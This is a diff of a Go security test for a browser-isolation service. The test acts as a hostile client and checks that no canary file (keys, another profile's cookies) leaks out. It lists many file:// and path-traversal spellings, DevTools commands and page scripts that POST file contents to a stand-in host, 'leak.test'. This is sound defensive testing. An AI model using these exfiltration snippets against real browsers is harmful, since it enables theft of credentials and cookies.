@@ -11,11 +11,14 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"warren/testnet"
 )
 
-// This file is a client that means harm: it tries every way that it knows to files which are not its own, and the wire is asked what came.
+// A hostile client tries every known way to files that are not its own. Then everything that it received is searched.
 
-// hoard is a machine's files that no client may have, all with the canary's text: of the server, of its keys, of another run and of another profile.
+// hoard is a machine's files that no client may read, all with the canary's text: the server's, its keys, and those of another run and
+// another profile.
 func hoard(t *testing.T, c *canary, s *Spec) (files []string) {
 	t.Helper()
 	dir := tempDir(t)
@@ -23,7 +26,8 @@ func hoard(t *testing.T, c *canary, s *Spec) (files []string) {
 	own := filepath.Join(data, "profiles", "own")
 	s.UserDataDir, s.TempDir, s.FilesDir = filepath.Join(own, "chrome"), filepath.Join(temps, "r1"), filepath.Join(own, "files")
 	s.Protected, s.Hidden, s.Siblings = []string{data, filepath.Join(dir, "keys")}, []string{temps}, []string{temps + "/"}
-	files = []string{filepath.Join(data, "admin.key"), filepath.Join(data, "profiles", "other", "chrome", "Cookies"), filepath.Join(temps, "r2", "upload"), filepath.Join(dir, "keys", "secret.key")}
+	files = []string{filepath.Join(data, "admin.key"), filepath.Join(data, "profiles", "other", "chrome", "Cookies"),
+		filepath.Join(temps, "r2", "upload"), filepath.Join(dir, "keys", "secret.key")}
 	page, err := os.ReadFile(c.file)
 	for _, file := range files {
 		err = errors.Join(err, os.MkdirAll(filepath.Dir(file), 0o700), os.WriteFile(file, page, 0o600))
@@ -37,7 +41,7 @@ func hoard(t *testing.T, c *canary, s *Spec) (files []string) {
 	return files
 }
 
-// half gives every other one: each of two files in turn gets other spellings.
+// half returns every other element, so that two files get different spellings.
 func half(i int, all ...string) (out []string) {
 	for k := i % 2; k < len(all); k += 2 {
 		out = append(out, all[k])
@@ -45,38 +49,48 @@ func half(i int, all ...string) (out []string) {
 	return out
 }
 
-// addresses are spellings of the address of the i-th file.
+// addresses returns spellings of the address of the i-th file.
 func addresses(i int, file string) []string {
-	return half(i, "file://"+file, "FILE://localhost"+file, "file:"+file, "view-source:file://"+file, "file:///proc/self/root"+file, "file://"+strings.ReplaceAll(file, "a", "%61"))
+	return half(i, "file://"+file, "FILE://localhost"+file, "file:"+file, "view-source:file://"+file, "file:///proc/self/root"+file,
+		"file://"+strings.ReplaceAll(file, "a", "%61"))
 }
 
-// paths are spellings of its path.
+// paths returns spellings of its path.
 func paths(i int, file string) []string {
 	return half(i, file, "/proc/self/root"+file, "/."+file, "//"+file, strings.Repeat("../", 12)+file, filepath.Dir(file))
 }
 
-// byScript are ways of a page's script to an address, which stands for %q in them.
+// byScript returns ways of a page's script to an address, which stands for %q.
 func byScript() []string {
 	return []string{
-		"location = %q", "location.replace(%q)", "open(%q)", "open(%q, '_blank', 'noopener')", "fetch(%q).then(r => r.text()).then(send)", "import(%q)", "new EventSource(%q)", "new Worker(%q)",
-		"new SharedWorker(%q)", "navigator.sendBeacon(%q, 'x')", "add('iframe', {src: %q}).onload = e => send(e.target.contentDocument?.body?.innerHTML)", "add('object', {data: %q})",
-		"add('embed', {src: %q})", "add('img', {src: %q})", "add('script', {src: %q})", "add('link', {rel: 'stylesheet', href: %q})", "add('video', {src: %q})", "add('a', {href: %q}).click()",
-		"add('a', {href: %q, download: 'x'}).click()", "add('form', {action: %q}).submit()", "document.write('<meta http-equiv=refresh content=\"0;url=' + %q + '\">')",
+		"location = %q", "location.replace(%q)", "open(%q)", "open(%q, '_blank', 'noopener')", "fetch(%q).then(r => r.text()).then(send)",
+		"import(%q)", "new EventSource(%q)", "new Worker(%q)",
+		"new SharedWorker(%q)", "navigator.sendBeacon(%q, 'x')",
+		"add('iframe', {src: %q}).onload = e => send(e.target.contentDocument?.body?.innerHTML)", "add('object', {data: %q})",
+		"add('embed', {src: %q})", "add('img', {src: %q})", "add('script', {src: %q})", "add('link', {rel: 'stylesheet', href: %q})",
+		"add('video', {src: %q})", "add('a', {href: %q}).click()",
+		"add('a', {href: %q, download: 'x'}).click()", "add('form', {action: %q}).submit()",
+		"document.write('<meta http-equiv=refresh content=\"0;url=' + %q + '\">')",
 		"new Worker(URL.createObjectURL(new Blob(['try { importScripts(' + JSON.stringify(%q) + ') } catch (e) {}'])))",
-		"{ const x = new XMLHttpRequest(); x.onload = () => send(x.responseText); x.open('GET', %q); x.send() }", "history.pushState(1, '', %q)", "add('iframe', {srcdoc: '<iframe src=\"' + %q + '\">'})",
+		"{ const x = new XMLHttpRequest(); x.onload = () => send(x.responseText); x.open('GET', %q); x.send() }",
+		"history.pushState(1, '', %q)", "add('iframe', {srcdoc: '<iframe src=\"' + %q + '\">'})",
 	}
 }
 
-// scripted is what such a script finds beside it.
+// scripted returns what such a script finds.
 const scripted = `const send = (text) => fetch("http://leak.test/leak", {method: "POST", mode: "no-cors", body: String(text)});
 	const add = (kind, members) => document.body.appendChild(Object.assign(document.createElement(kind), members));`
 
 // opening tries the commands that take an address.
 func opening(s *spy, session, address string) {
 	for method, params := range map[string]map[string]any{
-		"Page.navigate": {"url": address}, "Network.loadNetworkResource": {"url": address, "options": map[string]any{"disableCache": true, "includeCredentials": true}},
-		"Page.addScriptToEvaluateOnNewDocument": {"source": fmt.Sprintf("location = %q", address)}, "Page.getResourceContent": {"frameId": "x", "url": address},
-		"Page.setDocumentContent": {"frameId": "x", "html": "<iframe src=" + address + ">"}, "PWA.install": {"manifestId": address, "installUrlOrBundleUrl": address},
+		"Page.navigate": {"url": address},
+		"Network.loadNetworkResource": {
+			"url": address, "options": map[string]any{"disableCache": true, "includeCredentials": true}},
+		"Page.addScriptToEvaluateOnNewDocument": {"source": fmt.Sprintf("location = %q", address)},
+		"Page.getResourceContent":               {"frameId": "x", "url": address},
+		"Page.setDocumentContent":               {"frameId": "x", "html": "<iframe src=" + address + ">"},
+		"PWA.install":                           {"manifestId": address, "installUrlOrBundleUrl": address},
 	} {
 		s.ask(session, method, params)
 	}
@@ -85,9 +99,10 @@ func opening(s *spy, session, address string) {
 	s.ask("", "Target.sendMessageToTarget", map[string]any{"sessionId": session, "message": wrapped})
 }
 
-// handOver tries the commands that take a path.
-func handOver(s *spy, session, path string) {
-	s.ask(session, "Runtime.evaluate", map[string]any{"expression": scripted + `document.body.innerHTML = "<input type=file multiple>"; const input = document.querySelector("input");
+// tryShares tries the commands that take a path.
+func tryShares(s *spy, session, path string) {
+	s.ask(session, "Runtime.evaluate", map[string]any{"expression": scripted + `document.body.innerHTML = "<input type=file multiple>"; ` +
+		`const input = document.querySelector("input");
 		input.onchange = async () => { for (const f of input.files) send(await f.text()) }`})
 	if node := s.ask(session, "Runtime.evaluate", map[string]any{"expression": `document.querySelector("input")`}); node.Error == nil {
 		s.ask(session, "DOM.setFileInputFiles", map[string]any{"files": []string{path}, "objectId": objectID(s.t, node)})
@@ -97,8 +112,9 @@ func handOver(s *spy, session, path string) {
 		s.ask(session, "Input.dispatchDragEvent", map[string]any{"type": kind, "x": 5, "y": 5, "data": data})
 	}
 	for method, params := range map[string]map[string]any{
-		"Extensions.loadUnpacked": {"path": path}, "Browser.setDownloadBehavior": {"behavior": "allow", "downloadPath": path}, "PWA.launchFilesInApp": {"manifestId": "x", "files": []string{path}},
-		"Tracing.start": {"perfettoConfig": path},
+		"Extensions.loadUnpacked": {"path": path}, "Browser.setDownloadBehavior": {"behavior": "allow", "downloadPath": path},
+		"PWA.launchFilesInApp": {"manifestId": "x", "files": []string{path}},
+		"Tracing.start":        {"perfettoConfig": path},
 	} {
 		s.ask("", method, params)
 	}
@@ -113,13 +129,13 @@ func objectID(t *testing.T, m message) string {
 	return r.Result.ObjectID
 }
 
-// TestHostileClient: whatever a client, a page or an extension tries, no byte of what is not its own comes over its socket, in a picture or to its site,
-// with the kernel's help and without. What brings it where neither keeps it away is tried as well.
+// TestHostileClient: whatever a client, a page or an extension tries, no byte of a foreign file comes over its socket, in a picture or to
+// its site. That holds with and without the kernel's help. A control run without any protection proves that the ways work.
 func TestHostileClient(t *testing.T) {
 	inBothModes(t, func(t *testing.T, network string) {
 		p, c := newProfile(t), newCanary(t)
-		c.site(p.net)
-		p.net.mux.HandleFunc("/to", func(w http.ResponseWriter, r *http.Request) {
+		c.site(p.site)
+		p.site.Mux.HandleFunc("/to", func(w http.ResponseWriter, r *http.Request) {
 			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
 		})
 		spec := p.spec()
@@ -146,7 +162,8 @@ func TestHostileClient(t *testing.T) {
 			s.ask("", "Browser.getVersion", nil)
 			t.Logf("with the right to files %v: %d ways", may, ways)
 			if got := c.ways(); len(got) > 0 || ways < least {
-				t.Fatalf("with the right to files %v: after %d ways the canary came %d times, first by %.300s", may, ways, len(got), append(got, "")[0])
+				t.Fatalf("with the right to files %v: after %d ways the canary came %d times, first by %.300s", may, ways, len(got),
+					append(got, "")[0])
 			}
 		}
 		s := newSpyWith(t, b, c, false)
@@ -165,7 +182,8 @@ func (s *spy) tryAll(b *Browser, files []string) (ways int) {
 			opening(s, session, address)
 			ways += 8
 			for _, script := range append(byScript(), "location = 'http://a.test/to?to=' + encodeURIComponent(%q)") {
-				s.send(session, "Runtime.evaluate", map[string]any{"expression": "{" + scripted + fmt.Sprintf(script, address) + "}", "userGesture": true})
+				s.send(session, "Runtime.evaluate",
+					map[string]any{"expression": "{" + scripted + fmt.Sprintf(script, address) + "}", "userGesture": true})
 				ways++
 			}
 			s.ask("", "Browser.getVersion", nil)
@@ -175,12 +193,12 @@ func (s *spy) tryAll(b *Browser, files []string) (ways int) {
 	return ways + s.tryPaths(b, files)
 }
 
-// tryPaths tries those that take a path.
+// tryPaths tries the ways that take a path.
 func (s *spy) tryPaths(b *Browser, files []string) (ways int) {
 	for i, file := range files {
 		for _, path := range paths(i, file) {
 			tab, session := s.client(b)
-			handOver(s, session, path)
+			tryShares(s, session, path)
 			ways += 6
 			b.closeAndWait(tab)
 		}
@@ -191,30 +209,33 @@ func (s *spy) tryPaths(b *Browser, files []string) (ways int) {
 // client opens a tab and attaches to it.
 func (s *spy) client(b *Browser) (tab, session string) {
 	s.t.Helper()
-	tab = s.tab(b, "http://a.test/innocent").target
+	tab = s.tab(b, "http://a.test/innocent").Target
 	return tab, field(s.t, s.ask("", "Target.attachToTarget", map[string]any{"targetId": tab, "flatten": true}).Result, "sessionId")
 }
 
-// unguarded hands every file to a page by the browser's own commands, which nothing looks at.
+// unguarded gives every file to a page by the browser's own commands, which are not checked.
 func (b *Browser) unguarded(t *testing.T, s *spy, files []string) {
 	t.Helper()
 	tab := s.tab(b, "http://a.test/innocent")
-	ctx, cancel := context.WithTimeout(t.Context(), patient)
+	ctx, cancel := context.WithTimeout(t.Context(), testnet.Patience)
 	defer cancel()
 	for _, file := range files {
 		var node struct{ Result struct{ ObjectID string } }
 		input := map[string]any{"expression": `document.body.innerHTML = "<input type=file>"; document.querySelector("input")`}
-		err := b.mux.call(ctx, tab.session, "Runtime.evaluate", input, &node)
+		err := b.mux.call(ctx, tab.Session, "Runtime.evaluate", input, &node)
 		if err == nil {
-			err = b.mux.call(ctx, tab.session, "DOM.setFileInputFiles", map[string]any{"files": []string{file}, "objectId": node.Result.ObjectID}, nil)
+			err = b.mux.call(ctx, tab.Session, "DOM.setFileInputFiles",
+				map[string]any{"files": []string{file}, "objectId": node.Result.ObjectID}, nil)
 		}
 		if err != nil {
 			t.Logf("%s is not handed over: %v", file, err)
 			continue
 		}
 		var text string
-		read := fmt.Sprintf(`document.querySelector("input").files[0].text().then(async (text) => { await fetch("http://leak.test/leak?%s", {method: "POST", mode: "no-cors", body: text}); return text }, String)`, url.QueryEscape(file))
-		if err := b.mux.owner.evaluate(ctx, tab, read, &text); err != nil {
+		read := fmt.Sprintf(`document.querySelector("input").files[0].text().then(async (text) => { await `+
+			`fetch("http://leak.test/leak?%s", {method: "POST", mode: "no-cors", body: text}); return text }, String)`,
+			url.QueryEscape(file))
+		if err := b.mux.controller.evaluate(ctx, tab, read, &text); err != nil {
 			t.Logf("%s is not read: %v", file, err)
 		}
 	}
